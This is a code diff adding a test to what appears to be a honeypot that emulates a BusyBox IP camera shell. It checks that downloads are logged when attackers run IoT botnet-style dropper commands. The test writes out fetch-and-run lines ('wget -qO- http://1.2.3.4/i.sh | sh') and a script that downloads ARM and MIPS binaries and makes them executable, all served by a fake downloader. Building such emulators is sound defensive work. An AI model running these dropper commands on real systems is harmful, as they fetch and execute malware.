@@ -69,3 +69,24 @@ test('the progress size field is BusyBox smart_ulltoa5', () => {
   assert.deepEqual([0, 20, 1234, 99_999, 100_000, 2_999_999, 3_000_000, 52_428_800, 5 * 1024 ** 3].map(sizeField), ['    0', '   20', ' 1234', '99999', '97.6k', '2929k', '2929k', '50.0M', '5120M'].map((s) => s.padStart(5)));
   assert.equal(progressLine('a-very-long-file-name-here.bin', 20), 'a-very-long-file-nam 100% |********************************|    20  0:00:00 ETA');
 });
+
+test('`wget -O- URL | sh` and `curl URL | sh` run the fetched script, whose own downloads go out too', async () => {
+  const { createTestShell } = await import('../../testing/shell-harness.ts');
+  const { commands } = await import('./index.ts');
+  const downloads = new FakeDownloads({
+    'http://1.2.3.4/i.sh': 'cd /tmp; wget http://1.2.3.4/x.arm7 -O x; chmod 777 x\n',
+    'http://1.2.3.4/c.sh': 'wget http://1.2.3.4/y.mips\n',
+    'http://1.2.3.4/x.arm7': 'ARM',
+    'http://1.2.3.4/y.mips': 'MIPS',
+  });
+  const { loadPersonaPack } = await import('../../personas/load-pack.ts');
+  const camera = await loadPersonaPack(new URL('../../../personas/xm-ipc-hi3516d', import.meta.url).pathname);
+  const shell = createTestShell({ commands, downloads, persona: camera });
+  await shell.run('wget -qO- http://1.2.3.4/i.sh | sh');
+  await shell.run('busybox wget -O - http://1.2.3.4/c.sh 2>/dev/null | sh');
+  assert.deepEqual(
+    downloads.requests.map((r) => r.url),
+    ['http://1.2.3.4/i.sh', 'http://1.2.3.4/x.arm7', 'http://1.2.3.4/c.sh', 'http://1.2.3.4/y.mips'],
+  );
+  assert.match(await shell.run('ls -l /tmp/x'), /-rwxrwxrwx .* 3 .* \/tmp\/x/);
+});
